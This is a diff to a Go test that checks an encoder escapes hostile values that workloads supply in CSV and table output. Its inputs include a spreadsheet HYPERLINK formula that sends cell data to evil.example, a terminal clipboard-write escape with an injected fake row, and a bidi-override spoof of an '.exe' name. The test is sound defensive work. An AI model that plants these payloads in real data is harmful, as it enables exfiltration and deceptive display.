@@ -16,6 +16,7 @@ func TestOutputsNeutralizeWhatWorkloadsChoose(t *testing.T) {
 	r.RequestID = `=HYPERLINK("http://evil.example/?"&A1,"open")`
 	r.Path = "/x\x1b]52;c;ZXZpbA==\x07\r\nFAKE ROW"
 	r.Host = "+1.example"
+	r.Principal = "spiffe://cluster.local/ns/a/sa/\u202egnp.exe" // a bidi override
 
 	var b strings.Builder
 	enc, err := NewEncoder("csv", &b)
@@ -52,6 +53,9 @@ func TestOutputsNeutralizeWhatWorkloadsChoose(t *testing.T) {
 	out := b.String()
 	if strings.ContainsAny(out, "\x1b\x07\r") || strings.Count(out, "\n") != 2 {
 		t.Errorf("table output carries control characters or extra lines:\n%q", out)
+	}
+	if strings.ContainsRune(out, '\u202e') || !strings.Contains(out, `sa/\u202egnp.exe`) {
+		t.Errorf("table output does not escape the bidi override:\n%s", out)
 	}
 	if !strings.Contains(out, `/x\x1b]52;c;ZXZpbA==\a\r\nFAKE ROW`) {
 		t.Errorf("table output does not show the path escaped:\n%s", out)
